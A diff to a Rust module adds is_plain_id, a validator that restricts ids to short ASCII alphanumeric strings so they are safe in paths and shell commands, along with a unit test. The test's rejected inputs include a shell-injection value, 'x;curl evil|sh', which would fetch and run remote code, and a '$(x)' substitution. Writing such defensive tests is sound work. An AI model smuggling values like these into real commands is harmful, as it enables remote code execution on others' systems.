@@ -39,6 +39,11 @@ impl Mode {
     }
 }
 
+/// Whether an id can stand in a path, in a command line and on a screen as it is. All ids that a host gives can.
+pub(crate) fn is_plain_id(id: &str) -> bool {
+    (1..=128).contains(&id.len()) && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
+}
+
 /// A name as one token of a subject.
 pub(crate) fn token(name: &str) -> String {
     let mut token = String::with_capacity(name.len());
@@ -166,6 +171,16 @@ mod tests {
     use proptest::prelude::*;
 
     use super::*;
+
+    #[test]
+    fn ids_that_a_shell_would_read_are_not_plain() {
+        for id in ["s", "0123456789ab-7.2", "0123456789ab-h.00ff", "01a2188d-5850-7540-93fd-d1ac9bd997e1"] {
+            assert!(is_plain_id(id), "{id}");
+        }
+        for id in ["", "x;curl evil|sh", "$(x)", "a b", "a\nb", "a/b", "ä", &"a".repeat(129)] {
+            assert!(!is_plain_id(id), "{id}");
+        }
+    }
 
     #[test]
     fn tokens_have_no_meaning_in_subjects() {
